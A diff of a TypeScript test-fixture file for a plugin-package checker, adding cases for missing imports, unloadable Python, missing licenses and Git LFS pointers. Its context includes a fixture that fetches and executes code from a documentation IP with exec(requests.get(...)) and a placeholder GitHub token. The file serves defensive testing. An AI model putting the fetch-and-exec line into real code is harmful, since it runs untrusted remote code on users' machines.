@@ -8,8 +8,8 @@ export interface VerdictCase {
   says?: RegExp
   /** The version that clients announce, where they do not find it in [project]. */
   version?: string
-  /** The registry cannot refuse what `check` and `publish` stop. It holds it. */
-  isHeldByRegistry?: true
+  /** The registry cannot refuse what `check` and `publish` stop. It holds or lists it. */
+  byRegistry?: 'waiting' | 'active'
 }
 
 const node = `class Tint:
@@ -80,6 +80,12 @@ const letters = (count: number) => `"${'x'.repeat(count)}"`
 const list = (count: number, item: (at: number) => string) =>
   `[${Array.from({ length: count }, (_, at) => `"${item(at)}"`).join(', ')}]`
 
+/** Stopped before it is sent. */
+const stopped = (given: Manifest, says: RegExp, files = {}): VerdictCase => ({
+  ...refused(given, says, files),
+  byRegistry: 'active',
+})
+
 /** Folders by what is special about them. */
 export const verdictCases: Readonly<Record<string, VerdictCase>> = {
   'an icon on the web': active({ comfy: 'Icon = "https://example.org/icon.png"' }),
@@ -95,6 +101,20 @@ export const verdictCases: Readonly<Record<string, VerdictCase>> = {
   'an emoji as the icon': active({ comfy: 'Icon = "🎨"' }),
   'two emoji as the icon': active({ comfy: 'Icon = "👩‍🎨🖼️"' }),
   'a number as the icon': active({ comfy: 'Icon = 5' }),
+
+  'an import of a missing file': stopped({}, /__init__\.py:1 .*\.colors.*import-missing/, {
+    '__init__.py': `from .colors import all\n${node}`,
+  }),
+  'a file that Python refuses': stopped({}, /__init__\.py:\d+ .*python-cannot-load/, {
+    '__init__.py': `${node}x = (\n`,
+  }),
+  'a missing folder of scripts': stopped({}, /web-directory-missing/, {
+    '__init__.py': `${node}WEB_DIRECTORY = "./js"\n`,
+  }),
+  'a missing license file': stopped({ project: 'license = { file = "LICENSE" }' }, /:4 .*license-missing/),
+  'a pointer of Git LFS': stopped({}, /git lfs pull[\s\S]*lfs-pointer/, {
+    'shot.png': `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 12345\n`,
+  }),
 
   'a version in a file': {
     ...active(fromFile, { '_version.py': '# Ours\n__version__ = "3.1.4"\n' }),
@@ -232,7 +252,7 @@ export const verdictCases: Readonly<Record<string, VerdictCase>> = {
     ...refused({}, /pyproject\.toml.* larger/, {
       'pyproject.toml': `${manifest({})}# ${'x'.repeat(300_000)}\n`,
     }),
-    isHeldByRegistry: true,
+    byRegistry: 'waiting',
   },
   'a table that is none': {
     files: { 'pyproject.toml': 'project = "tint"\n', '__init__.py': node },
@@ -250,7 +270,7 @@ export const verdictCases: Readonly<Record<string, VerdictCase>> = {
     ...refused({}, /settings\.py:1/, {
       'settings.py': `KEY = "ghp_${'aB3dE6gH9jK2mN5pQ8sT1vW4yZ7cF0hL3nR6'}"\n`,
     }),
-    isHeldByRegistry: true,
+    byRegistry: 'waiting',
   },
   'code from the network': {
     files: packWith({}, { 'run.py': 'import requests\nexec(requests.get("http://203.0.113.9").text)\n' }),
